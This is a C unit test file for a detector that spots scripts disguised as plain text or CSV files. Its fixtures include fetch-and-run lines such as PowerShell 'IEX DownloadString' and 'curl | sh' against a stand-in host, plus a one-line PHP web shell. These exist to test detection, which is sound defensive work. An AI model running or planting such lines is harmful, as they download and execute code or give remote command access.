/* SPDX-License-Identifier: GPL-2.0-or-later WITH cryptsetup-OpenSSL-exception */
/* Text that is a script under another name; and text about scripts. */
#include "content_fixture.h"

#define TEXT(text) look_text(text, "notes.txt", NULL, "text/plain")

static void scripts(void **state)
{
	size_t size;
	uint8_t *wide = widen("param([string]$n)\r\n$ErrorActionPreference = 'Stop'\r\nInvoke-WebRequest -Uri $n -OutFile a.exe\r\n", &size);

	said_is(look_bytes(wide, size, "data.csv", NULL, "text/plain"), "text/x-powershell");
	said_is(TEXT("$c = New-Object System.Net.WebClient\n# fetch\nIEX $c.DownloadString('http://e/')\n"), "text/x-powershell");
	said_is(TEXT("On Error Resume Next\nDim s\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"\n"), "text/vbscript");
	said_is(TEXT("var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"calc\");\n"), "application/javascript");
	said_is(TEXT("rem x\n@echo off\nif exist a.exe goto b\ncall a.exe\n:b\n"), "text/x-msdos-batch");
	said_is(TEXT("set -e\nif [ -e /x ]; then\n\tcurl -s http://e | sh\nfi\n"), "text/x-shellscript");
	said_is(TEXT("import os\nimport sys\n\ndef main():\n\tos.system(sys.argv[1])\n\nmain()\n"), "text/x-script.python");
	said_is(TEXT("use strict;\nuse warnings;\nmy %a = ();\nprint keys %a;\n"), "text/x-perl");
	said_is(TEXT("#!/opt/bin/thing -x\ndo\n"), "text/x-shellscript");
	said_is(TEXT("<HTA:APPLICATION ID=x><x/>"), "application/hta");
	said_is(TEXT("<?xml version=\"1.0\"?><package><job id=\"a\"><script language=\"VBScript\">x</script></job></package>"), "text/scriptlet");
	said_is(TEXT("<?php system($_GET['c']); ?>"), "text/x-php");
	survives_cutting(wide, size, "data.csv", NULL, "text/plain");
	free(wide);
}

static void encoded(void **state)
{
	MISMATCH(TEXT("x\n#@~^DgAAAA==\\ko$K6,JCJAQQAAA==^#~@"), "encoded");
	said_nothing(TEXT("Files that begin with #@~^ are encoded by a tool of Microsoft.\n"));
}

static void texts(void **state)
{
	said_nothing(TEXT("To fetch it, use Invoke-WebRequest with the address, and then Start-Process to run what came.\nWrite-Host tells of it.\n"
			  "Nothing else is needed on this system, which has been set up before.\nThe end of the story is told below.\n"));
	said_nothing(TEXT("Set the switch. Then call the office:\nif it is closed,\ngo home.\n"));
	said_nothing(TEXT("import duties are due.\nimport os is a line of Python.\ndefine more.\n"));
	said_nothing(TEXT("[section]\nkey=value\nname=(a)\n")); /* looks like code, says nothing */
	said_nothing(TEXT("#![feature(x)]\n"));
	said_nothing(TEXT("a,b,c\n1,2,3\n"));
	said_nothing(TEXT(""));
	/* its name says what it is: the rules know */
	silent_text("use strict;\nuse warnings;\nmy $a = 1;\n", "a.pl", NULL, "text/plain");
	silent_text("if [ -e x ]; then\n\techo\nfi\ndone\n", "Makefile.am", NULL, "text/plain");
	silent_text("use strict;\nuse warnings;\nmy $a = 1;\n", "a", NULL, "text/x-perl"); /* libmagic said so */
}

static void style_sheets(void **state)
{
	ACTIVE(look_text("<xsl:stylesheet xmlns:ms=\"urn:schemas-microsoft-com:xslt\"><ms:script language=\"JScript\">x</ms:script></xsl:stylesheet>",
			 "a.xsl", NULL, "text/xml"),
	       "a style sheet");
	silent_text("<xsl:stylesheet xmlns:ms=\"urn:schemas-microsoft-com:xslt\"><x/></xsl:stylesheet>", "a.xsl", NULL, "text/xml");
}

int main(void)
{
	const struct CMUnitTest tests[] = { cmocka_unit_test(scripts), cmocka_unit_test(encoded), cmocka_unit_test(texts),
					    cmocka_unit_test(style_sheets) };

	return cmocka_run_group_tests(tests, NULL, NULL);
}
